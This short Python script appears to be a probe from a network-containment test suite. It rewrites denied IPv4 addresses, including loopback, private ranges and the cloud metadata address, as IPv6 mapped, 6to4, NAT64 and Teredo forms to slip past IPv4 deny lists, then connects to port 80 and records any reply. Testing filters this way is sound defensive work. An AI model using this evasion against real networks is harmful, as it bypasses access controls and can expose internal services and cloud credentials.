# SPDX-License-Identifier: Apache-2.0
# Trick: IPv6 addresses that carry a denied or private IPv4 one: mapped, compatible, 6to4,
#	NAT64, Teredo
# Gain: past lists of IPv4 networks, where the host or its router translates
from trick import *

outs = []
for v4 in (EVIL, "10.0.0.5", "127.0.0.1", "169.254.169.254", "11.0.0.2"):
    b = socket.inet_aton(v4)
    flipped = bytes(x ^ 255 for x in b)
    for form in (bytes(10) + b"\xff\xff" + b, bytes(12) + b, b"\x20\x02" + b + bytes(9) + b"\1",
                 b"\0\x64\xff\x9b" + bytes(8) + b, b"\0\x64\xff\x9b\0\1" + bytes(6) + b,
                 b"\x20\1\0\0" + b + bytes(4) + flipped):
        addr = socket.inet_ntop(socket.AF_INET6, form)
        s = tcp(addr, 80, 0.3)
        if s and not (form[:12] == bytes(10) + b"\xff\xff" and v4.startswith("127.")):  # its own
            say(s, request("x"))
            outs.append((addr, read(s, 0.1)))
any_answer("in disguise", outs)
